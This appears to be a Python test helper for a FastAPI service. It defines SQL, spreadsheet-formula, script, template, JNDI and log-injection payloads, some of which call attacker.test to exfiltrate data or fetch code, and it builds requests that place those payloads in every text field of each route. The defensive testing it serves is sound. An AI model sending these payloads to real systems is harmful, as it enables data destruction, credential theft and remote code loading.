"""Texts that become commands where somebody is careless, and every place of a route that takes a text."""

import copy
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

from fastapi import FastAPI

from shared.http.entering.routing import table

SQL = (
    "x'; DROP TABLE events; --",
    "x' OR '1'='1",
    "x\\'; SELECT pg_sleep(60); --",
    "$1); DELETE FROM streams; --",
    "x') UNION SELECT rolpassword FROM pg_authid --",
    'x"; ALTER TABLE streams DISABLE TRIGGER ALL; --',
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)*2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.test?x="&A1,"go")',
)
MARKUP = ("<script>alert(1)</script>", "{{7*7}} ${jndi:ldap://attacker.test/a} %s {seed}")
LOG_LINES = (
    'x\r\n{"event": "forged", "level": "info"}',
    "x\r\nX-Injected: yes\r\n\r\n<b>",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "x\u2028y\u0085z",
)
PRINTABLE = (*SQL, *FORMULAS, *MARKUP)
ALL = (*SQL[:4], FORMULAS[0], *MARKUP, *LOG_LINES)
SOME = (*SQL[:2], *LOG_LINES[1:3])  # for codes, ids and dates: their form alone lets none of it pass

_EXAMPLES = {"uuid": "0198c1f2-8a51-7cc1-b6a1-6a1f0a2f9d22", "date": "2021-02-01"}
_EXAMPLES |= {"date-time": "2021-02-01T09:00:00+07:00", "email": "demo@example.org"}

_NAMED = {"fiscal_year": "2564", "kpi": "5.2-R1", "field": "RAIL", "college": "rayong-tc"}


@dataclass(frozen=True)
class Slot:
    """One place of a route that takes a text, in a request that is else as it should be."""

    method: str
    path: str
    role: str
    where: tuple[Any, ...]
    query: Mapping[str, str]
    body: Any

    def __str__(self) -> str:
        return f"{self.method} {self.path} {'/'.join(map(str, self.where))}"

    @property
    def is_free(self) -> bool:
        """Whether people write what they like here: then the example is in Thai, or in several words."""
        example = self.body if self.where[0] == "body" else ""
        for step in self.where[1:]:
            example = example[step] if example else ""
        return not str(example).isascii() or " " in str(example)

    def request(self, text: str) -> dict[str, Any]:
        """What httpx shall send."""
        kind, *rest = self.where
        path, query, body = self.path, dict(self.query), copy.deepcopy(self.body)
        match kind:
            case "path":
                path = path.replace(f"{{{rest[0]}}}", quote(text, safe=""))
            case "query":
                query[rest[0]] = text
            case _:
                inner = body
                for step in rest[:-1]:
                    inner = inner[step]
                inner[rest[-1]] = text
        for name, example in (
            ("fiscal_year", "2564"),
            ("kpi", "5.2-R1"),
            ("field", "RAIL"),
            ("college", "a-tc"),
        ):
            path = path.replace(f"{{{name}}}", example)
        while "{" in path:
            path = path.replace(path[path.index("{") : path.index("}") + 1], _EXAMPLES["uuid"])
        return {"method": self.method, "url": path, "params": query or None, "json": body}


def slots(app: FastAPI) -> Iterator[Slot]:
    """Every text in path, query and body of every guarded route."""
    document = app.openapi()
    for row in table(app):
        told = document["paths"][row.path][row.method.lower()]
        parameters = [each for each in told.get("parameters", ()) if each["in"] in {"path", "query"}]
        query = {
            each["name"]: str(_example(each["schema"], document))
            for each in parameters
            if each["in"] == "query" and each.get("required")
        }
        schema = told.get("requestBody", {}).get("content", {}).get("application/json", {}).get("schema")
        body = _example(schema, document) if schema else None
        places = [(each["in"], each["name"]) for each in parameters]
        places += [("body", *place) for place in _texts(body)]
        for where in places:
            yield Slot(row.method, row.path, str(row.roles[0]), where, query, body)


def _texts(body: Any, *way: Any) -> Iterator[tuple[Any, ...]]:
    """Where in a body there are texts: those of forms of their own too, and what is a number or a choice."""
    if isinstance(body, dict | list):
        for step, inner in body.items() if isinstance(body, dict) else enumerate(body):
            yield from _texts(inner, *way, step)
    elif way and isinstance(body, str):
        yield way


def _example(schema: Mapping[str, Any], document: Mapping[str, Any]) -> Any:
    """Something that the schema allows, with every field."""
    if "$ref" in schema:
        return _example(document["components"]["schemas"][schema["$ref"].rpartition("/")[2]], document)
    if examples := schema.get("examples") or ([schema["example"]] if "example" in schema else []):
        return examples[0]
    for several in ("anyOf", "oneOf", "allOf"):
        if several in schema:
            return _example(schema[several][0], document)
    if "enum" in schema or "const" in schema:
        return schema["enum"][0] if "enum" in schema else schema["const"]
    match schema.get("type"):
        case "object":
            return {name: _example(of, document) for name, of in schema.get("properties", {}).items()}
        case "array":
            return [_example(schema["items"], document)] if "items" in schema else []
        case "integer" | "number":
            return int(schema.get("minimum", 1))
        case "boolean":
            return True
    return _EXAMPLES.get(schema.get("format", ""), "ก")
